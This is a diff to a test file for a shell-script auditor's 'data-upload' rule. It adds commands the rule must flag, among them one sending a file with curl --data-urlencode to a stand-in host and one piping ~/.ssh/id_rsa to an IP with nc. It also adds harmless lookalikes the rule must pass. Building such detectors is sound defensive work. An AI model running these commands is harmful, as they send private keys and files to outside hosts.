@@ -573,6 +573,12 @@ describe("data-upload", () => {
       "sends what is piped into it to a host with nc",
     ],
     ["an option in quotes", 'curl "-T" backup.tar https://x.example/put', "uploads a file with curl"],
+    [
+      "a file url-encoded under a name",
+      "curl --data-urlencode msg@notes.txt https://x.example/c",
+      "sends a file with curl",
+    ],
+    ["a file into nc", "nc 198.51.100.7 9000 < ~/.ssh/id_rsa", "sends a file to a host with nc"],
     ["a socket opened by exec", "exec 3<>/dev/tcp/198.51.100.7/80", "writes to a network connection"],
   ])("flags %s", (_, command, how) => {
     const found = audit("p/s/run.sh", `#!/bin/sh\n${command}\n`).filter((one) => one.rule === "data-upload");
@@ -586,6 +592,11 @@ describe("data-upload", () => {
     ["a download", "curl -fsSLo tool.tgz https://x.example/tool.tgz"],
     ["a port check with nc", "nc -zv db.internal 5432"],
     ["nc in a Markdown table", "| `curl` | HTTP |\n| `nc` | raw TCP, <br> see below |"],
+    // Regression: curl reads a file only for a value starting with `@` (or `name@file` url-encoded); any
+    // other `@` is data, and nc given /dev/null sends nothing.
+    ["an address as data", "curl -s -d user@example.com https://x.example/subscribe"],
+    ["an address in JSON", `curl --json '{"to":"me@example.com"}' https://x.example/mail`],
+    ["a listener given /dev/null", "nc -l 8080 < /dev/null"],
     ["git deleting a branch after a curl", "curl -s https://x.example/ok && git branch -d old@x"],
     // Regression: a `;` or `&&` written against the word before it ended no command, and git's `-d` was read
     // as curl's.
